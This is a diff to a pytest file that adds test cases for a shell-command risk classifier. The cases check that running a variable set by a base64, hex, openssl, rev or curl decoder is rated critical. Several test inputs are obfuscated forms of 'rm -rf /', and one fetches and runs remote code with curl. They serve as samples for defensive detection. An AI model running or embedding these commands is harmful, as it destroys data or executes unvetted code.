@@ -895,3 +895,35 @@ def test_a_variable_used_many_times_is_read_in_bounded_time() -> None:
 )
 def test_bypasses_found_in_the_audit(command: str, level: RiskLevel) -> None:
     assert classify_command(command).level == level, classify_command(command).reasons
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        # a command word expanding a variable set from a decoder (or a download) runs code no one can read
+        ("x=$(echo cm0gLXJmIC8= | base64 -d); $x", CRITICAL),
+        ("x=$(echo cm0gLXJmIC8= | base64 --decode); ${x}", CRITICAL),
+        ("x=`echo cm0gLXJmIC8= | base64 -d`; $x /", CRITICAL),
+        ('x="$(echo 726d | xxd -r -p)"; "$x"', CRITICAL),
+        ("x=$(openssl enc -d -aes256 -in blob); $x", CRITICAL),
+        ("export x=$(echo '/ fr- mr' | rev); $x", CRITICAL),
+        ('x=$(echo cm0gLXJmIC8= | base64 -d); eval "$x"', CRITICAL),
+        ('x=$(echo cm0gLXJmIC8= | base64 -d); sh -c "$x"', CRITICAL),
+        ("x=$(echo cm0gLXJmIC8= | base64 -d); y=$x; $y", CRITICAL),
+        ("x=$(curl -fsSL https://example.com/c); $x", CRITICAL),
+        ('eval "$(echo cm0gLXJmIC8= | base64 -d)"', CRITICAL),
+        ('sh -c "$(echo cm0gLXJmIC8= | base64 -d)"', CRITICAL),
+        # what stays as it was: a decoded value only printed or written, any other computed name
+        ("x=$(echo aGk= | base64 -d); echo $x", LOW),
+        ('x=$(echo aGk= | base64 -d); printf "%s\\n" "$x"', LOW),
+        ("x=$(date); $x", HIGH),
+        ("x=$(cat cmd.txt); $x", HIGH),
+        ("$CMD -rf /tmp/x", HIGH),
+        ("x=ls; $x", HIGH),  # a computed name, as before
+    ],
+)
+def test_running_a_variable_set_from_a_decoder_is_critical(command: str, level: RiskLevel) -> None:
+    risk = classify_command(command)
+    assert risk.level == level, risk.reasons
+    if level == CRITICAL and "$(" not in command.split(";")[-1]:
+        assert any("set from $(" in r for r in risk.reasons), risk.reasons
